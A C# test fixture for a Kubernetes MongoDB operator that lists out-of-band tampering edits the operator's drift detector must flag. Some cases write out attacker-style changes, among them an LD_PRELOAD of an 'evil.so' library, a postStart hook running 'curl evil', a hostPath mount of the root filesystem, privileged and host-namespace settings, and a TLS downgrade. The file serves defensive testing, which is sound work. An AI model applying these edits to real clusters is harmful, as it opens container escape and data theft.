using System.Text.Json.Nodes;
using HipaaMongo.Operator.Reconciliation.Drift;
using static HipaaMongo.Operator.Tests.Drift.DriftFixture;

namespace HipaaMongo.Operator.Tests.Drift;

/// <summary>One out-of-band edit of a live object, and the single finding it must produce.</summary>
internal sealed record DriftCase(string Kind, string Object, Action<JsonObject> Mutate, DriftClass Class, string Path, ApplyAction Action);

/// <summary>
/// The guarded mutations (an added container or sidecar, privileged or host settings, a
/// removed TLS volume, a changed mongod.conf, an edited NetworkPolicy ...), each applied to a live
/// copy of a real render. Paths follow the API's field names (k8s.io/api core/v1, networking/v1).
/// </summary>
internal static class DriftCases
{
    private const string Sts = "StatefulSet";
    private const string Mongod = Pod + ".containers[name=mongod]";

    public static readonly IReadOnlyDictionary<string, DriftCase> All = new Dictionary<string, DriftCase>
    {
        ["sidecar added"] = new(Sts, Name, s => PodSpec(s)["containers"]!.AsArray().Add(Sidecar("tap")),
            DriftClass.ContainerAdded, Pod + ".containers[name=tap]", ApplyAction.Replace),
        ["init container added"] = new(Sts, Name, s => PodSpec(s)["initContainers"]!.AsArray().Add(Sidecar("debug")),
            DriftClass.ContainerAdded, Pod + ".initContainers[name=debug]", ApplyAction.Replace),
        ["mongod container removed"] = new(Sts, Name, s => PodSpec(s)["containers"]!.AsArray().Clear(),
            DriftClass.ContainerRemoved, Pod + ".containers", ApplyAction.Replace),
        ["privileged"] = new(Sts, Name, s => Container(s, "mongod")["securityContext"]!["privileged"] = true,
            DriftClass.PrivilegedEnabled, Mongod + ".securityContext.privileged", ApplyAction.Replace),
        ["privilege escalation"] = new(Sts, Name, s => Container(s, "prepare", "initContainers")["securityContext"]!["allowPrivilegeEscalation"] = true,
            DriftClass.SecurityContextWeakened, Pod + ".initContainers[name=prepare].securityContext.allowPrivilegeEscalation", ApplyAction.Replace),
        ["capability added"] = new(Sts, Name, s => Container(s, "mongod")["securityContext"]!["capabilities"]!["add"] = new JsonArray("NET_ADMIN"),
            DriftClass.SecurityContextWeakened, Mongod + ".securityContext.capabilities.add", ApplyAction.Replace),
        ["runAsNonRoot removed"] = new(Sts, Name, s => PodSpec(s)["securityContext"]!.AsObject().Remove("runAsNonRoot"),
            DriftClass.SecurityContextWeakened, Pod + ".securityContext.runAsNonRoot", ApplyAction.Replace),
        ["seccomp unconfined"] = new(Sts, Name, s => PodSpec(s)["securityContext"]!["seccompProfile"]!["type"] = "Unconfined",
            DriftClass.SecurityContextWeakened, Pod + ".securityContext.seccompProfile.type", ApplyAction.Replace),
        ["hostNetwork"] = new(Sts, Name, s => PodSpec(s)["hostNetwork"] = true,
            DriftClass.HostNamespace, Pod + ".hostNetwork", ApplyAction.Replace),
        ["hostPID"] = new(Sts, Name, s => PodSpec(s)["hostPID"] = true,
            DriftClass.HostNamespace, Pod + ".hostPID", ApplyAction.Replace),
        ["hostIPC"] = new(Sts, Name, s => PodSpec(s)["hostIPC"] = true,
            DriftClass.HostNamespace, Pod + ".hostIPC", ApplyAction.Replace),
        ["hostPort"] = new(Sts, Name, s => Container(s, "mongod")["ports"]![0]!["hostPort"] = 27017,
            DriftClass.HostNamespace, Mongod + ".ports[containerPort=27017].hostPort", ApplyAction.Replace),
        ["hostPath volume"] = new(Sts, Name, s => Volumes(s).Add(new JsonObject { ["name"] = "host", ["hostPath"] = new JsonObject { ["path"] = "/" } }),
            DriftClass.HostPathVolume, Pod + ".volumes[name=host]", ApplyAction.Replace),
        ["TLS volume removed"] = new(Sts, Name, s => Volumes(s).Remove(Volumes(s).Single(v => v!["name"]!.GetValue<string>() == "member-tls")),
            DriftClass.TlsVolumeRemoved, Pod + ".volumes[name=member-tls]", ApplyAction.Replace),
        ["TLS volume points elsewhere"] = new(Sts, Name, s => Volumes(s).Single(v => v!["name"]!.GetValue<string>() == "member-tls")!["projected"]!["sources"]![0]!["secret"]!["name"] = "forged",
            DriftClass.TlsVolumeChanged, Pod + ".volumes[name=member-tls].projected.sources[0].secret.name", ApplyAction.Replace),
        ["trust bundle points elsewhere"] = new(Sts, Name, s => Volumes(s).Single(v => v!["name"]!.GetValue<string>() == "member-tls")!["projected"]!["sources"]![1]!["configMap"]!["name"] = "forged-ca",
            DriftClass.TlsVolumeChanged, Pod + ".volumes[name=member-tls].projected.sources[1].configMap.name", ApplyAction.Replace),
        ["TLS mount removed"] = new(Sts, Name, s => RemoveMount(Container(s, "mongod"), "/etc/mongodb/tls"),
            DriftClass.TlsVolumeRemoved, Mongod + ".volumeMounts[mountPath=/etc/mongodb/tls]", ApplyAction.Replace),
        ["LDAP CA mount made writable"] = new(Sts, Name, s => Mount(Container(s, "mongod"), "/etc/mongodb/ldap-ca")["readOnly"] = false,
            DriftClass.TlsVolumeChanged, Mongod + ".volumeMounts[mountPath=/etc/mongodb/ldap-ca].readOnly", ApplyAction.Replace),
        ["config volume re-pointed"] = new(Sts, Name, s => Volumes(s).Single(v => v!["name"]!.GetValue<string>() == "config-src")!["configMap"]!["name"] = "forged-config",
            DriftClass.ConfigChanged, Pod + ".volumes[name=config-src].configMap.name", ApplyAction.Replace),
        ["env added"] = new(Sts, Name, s => Container(s, "mongod")["env"]!.AsArray().Add(new JsonObject { ["name"] = "LD_PRELOAD", ["value"] = "/tmp/x.so" }),
            DriftClass.EnvAdded, Mongod + ".env[name=LD_PRELOAD]", ApplyAction.Replace),
        ["image changed"] = new(Sts, Name, s => Container(s, "mongod")["image"] = "mongo:latest",
            DriftClass.FieldChanged, Mongod + ".image", ApplyAction.Replace),
        ["pod label changed"] = new(Sts, Name, s => s["spec"]!["template"]!["metadata"]!["labels"]!["app.kubernetes.io/part-of"] = "other",
            DriftClass.LabelsChanged, "spec.template.metadata.labels[app.kubernetes.io/part-of]", ApplyAction.Replace),
        ["mongod.conf edited"] = new("ConfigMap", Name + "-mongod-config", c => c["data"]!["mongod.conf"] = Edit(c["data"]!["mongod.conf"]!.GetValue<string>()),
            DriftClass.ConfigChanged, "data[mongod.conf]", ApplyAction.Replace),
        ["config key added"] = new("ConfigMap", Name + "-mongod-config", c => c["data"]!["extra.conf"] = "x: 1",
            DriftClass.ConfigChanged, "data[extra.conf]", ApplyAction.Replace),
        ["members policy peer changed"] = new("NetworkPolicy", Name + "-members", p => p["spec"]!["ingress"]![0]!["from"]![0]!["podSelector"] = new JsonObject(),
            DriftClass.NetworkPolicyChanged, "spec.ingress[0].from[0].podSelector.matchLabels", ApplyAction.Replace),
        ["default deny opened"] = new("NetworkPolicy", Name + "-default-deny", p => p["spec"]!["ingress"] = new JsonArray(new JsonObject()),
            DriftClass.NetworkPolicyChanged, "spec.ingress", ApplyAction.Replace),
        ["default deny loses Egress"] = new("NetworkPolicy", Name + "-default-deny", p => p["spec"]!["policyTypes"] = new JsonArray("Ingress"),
            DriftClass.NetworkPolicyChanged, "spec.policyTypes", ApplyAction.Replace),
        ["service label removed"] = new("Service", Name + "-hs", s => s["metadata"]!["labels"]!.AsObject().Remove("app.kubernetes.io/managed-by"),
            DriftClass.LabelsChanged, "metadata.labels[app.kubernetes.io/managed-by]", ApplyAction.Replace),
        ["LD_PRELOAD set by kubectl set env"] = new(Sts, Name, s => Container(s, "mongod")["env"]!.AsArray().Add(new JsonObject { ["name"] = "LD_PRELOAD", ["value"] = "/data/db/evil.so" }),
            DriftClass.EnvAdded, Mongod + ".env[name=LD_PRELOAD]", ApplyAction.Replace),
        ["envFrom added"] = new(Sts, Name, s => Container(s, "mongod")["envFrom"] = new JsonArray(new JsonObject { ["configMapRef"] = new JsonObject { ["name"] = "evil" } }),
            DriftClass.FieldChanged, Mongod + ".envFrom", ApplyAction.Replace),
        ["postStart hook added"] = new(Sts, Name, s => Container(s, "mongod")["lifecycle"] = new JsonObject { ["postStart"] = new JsonObject { ["exec"] = new JsonObject { ["command"] = new JsonArray("sh", "-c", "curl evil") } } },
            DriftClass.FieldChanged, Mongod + ".lifecycle", ApplyAction.Replace),
        ["hostAliases added"] = new(Sts, Name, s => PodSpec(s)["hostAliases"] = new JsonArray(new JsonObject { ["ip"] = "10.0.0.66", ["hostnames"] = new JsonArray("kmip.example.org") }),
            DriftClass.FieldChanged, Pod + ".hostAliases[ip=10.0.0.66]", ApplyAction.Replace),
        ["dnsConfig added"] = new(Sts, Name, s => PodSpec(s)["dnsConfig"] = new JsonObject { ["nameservers"] = new JsonArray("10.0.0.66") },
            DriftClass.FieldChanged, Pod + ".dnsConfig", ApplyAction.Replace),
        ["seLinuxOptions spc_t"] = new(Sts, Name, s => PodSpec(s)["securityContext"]!["seLinuxOptions"] = new JsonObject { ["type"] = "spc_t" },
            DriftClass.SecurityContextWeakened, Pod + ".securityContext.seLinuxOptions", ApplyAction.Replace),
        ["appArmorProfile Unconfined"] = new(Sts, Name, s => Container(s, "mongod")["securityContext"]!["appArmorProfile"] = new JsonObject { ["type"] = "Unconfined" },
            DriftClass.SecurityContextWeakened, Mongod + ".securityContext.appArmorProfile", ApplyAction.Replace),
        ["procMount Unmasked"] = new(Sts, Name, s => Container(s, "mongod")["securityContext"]!["procMount"] = "Unmasked",
            DriftClass.SecurityContextWeakened, Mongod + ".securityContext.procMount", ApplyAction.Replace),
        ["sysctls added"] = new(Sts, Name, s => PodSpec(s)["securityContext"]!["sysctls"] = new JsonArray(new JsonObject { ["name"] = "kernel.shm_rmid_forced", ["value"] = "0" }),
            DriftClass.SecurityContextWeakened, Pod + ".securityContext.sysctls", ApplyAction.Replace),
        ["supplementalGroups root"] = new(Sts, Name, s => PodSpec(s)["securityContext"]!["supplementalGroups"] = new JsonArray(0),
            DriftClass.SecurityContextWeakened, Pod + ".securityContext.supplementalGroups", ApplyAction.Replace),
        ["nodeName pinned"] = new(Sts, Name, s => PodSpec(s)["nodeName"] = "compromised-node",
            DriftClass.FieldChanged, Pod + ".nodeName", ApplyAction.Replace),
        ["replicas scaled"] = new(Sts, Name, s => s["spec"]!["replicas"] = 1,
            DriftClass.FieldChanged, "spec.replicas", ApplyAction.Replace),
        ["member certificate made a CA"] = new("Certificate", Name + "-member", c => c["spec"]!["isCA"] = true,
            DriftClass.CertificateChanged, "spec.isCA", ApplyAction.Replace),
        ["member certificate given IP addresses"] = new("Certificate", Name + "-member", c => c["spec"]!["ipAddresses"] = new JsonArray("0.0.0.0"),
            DriftClass.CertificateChanged, "spec.ipAddresses", ApplyAction.Replace),
        ["service externalIPs"] = new("Service", Name, s => s["spec"]!["externalIPs"] = new JsonArray("203.0.113.7"),
            DriftClass.FieldChanged, "spec.externalIPs", ApplyAction.Replace),
        ["member certificate names changed"] = new("Certificate", Name + "-member", c => c["spec"]!["dnsNames"] = new JsonArray("evil.example.org"),
            DriftClass.CertificateChanged, "spec.dnsNames", ApplyAction.Replace),
    };

    private static JsonObject Sidecar(string name) => new() { ["name"] = name, ["image"] = "busybox" };

    private static JsonObject Mount(JsonObject container, string path) =>
        container["volumeMounts"]!.AsArray().OfType<JsonObject>().Single(m => m["mountPath"]!.GetValue<string>() == path);

    private static void RemoveMount(JsonObject container, string path) => container["volumeMounts"]!.AsArray().Remove(Mount(container, path));

    /// <summary>A one-line edit in the middle of the file, the way `kubectl edit` would leave it.</summary>
    private static string Edit(string conf) => conf.Replace("requireTLS", "preferTLS", StringComparison.Ordinal);
}
